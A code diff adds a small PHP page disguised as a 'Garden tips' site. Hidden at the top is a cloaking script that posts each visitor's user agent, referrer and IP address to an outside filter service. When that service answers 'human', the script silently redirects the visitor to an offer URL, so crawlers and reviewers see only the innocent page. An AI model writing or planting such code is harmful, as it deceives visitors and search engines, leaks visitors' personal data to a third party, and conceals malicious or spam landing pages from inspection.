@@ -1,0 +1,20 @@
+<?php
+// traffic filter: a remote service says which visitors see the offer
+$offer = 'https://offer.example.net/land';
+$ctx = stream_context_create(array('http' => array(
+    'method' => 'POST',
+    'header' => 'Content-Type: application/json',
+    'content' => json_encode(array(
+        'ua' => $_SERVER['HTTP_USER_AGENT'] ?? '',
+        'ref' => $_SERVER['HTTP_REFERER'] ?? '',
+        'ip' => $_SERVER['REMOTE_ADDR'],
+    )),
+)));
+$answer = file_get_contents('https://filter.example.org/check', false, $ctx);
+$res = json_decode($answer, true);
+if (!empty($res['human'])) {
+    header('Location: ' . $offer);
+    exit;
+}
+?>
+<html><body><h1>Garden tips</h1></body></html>
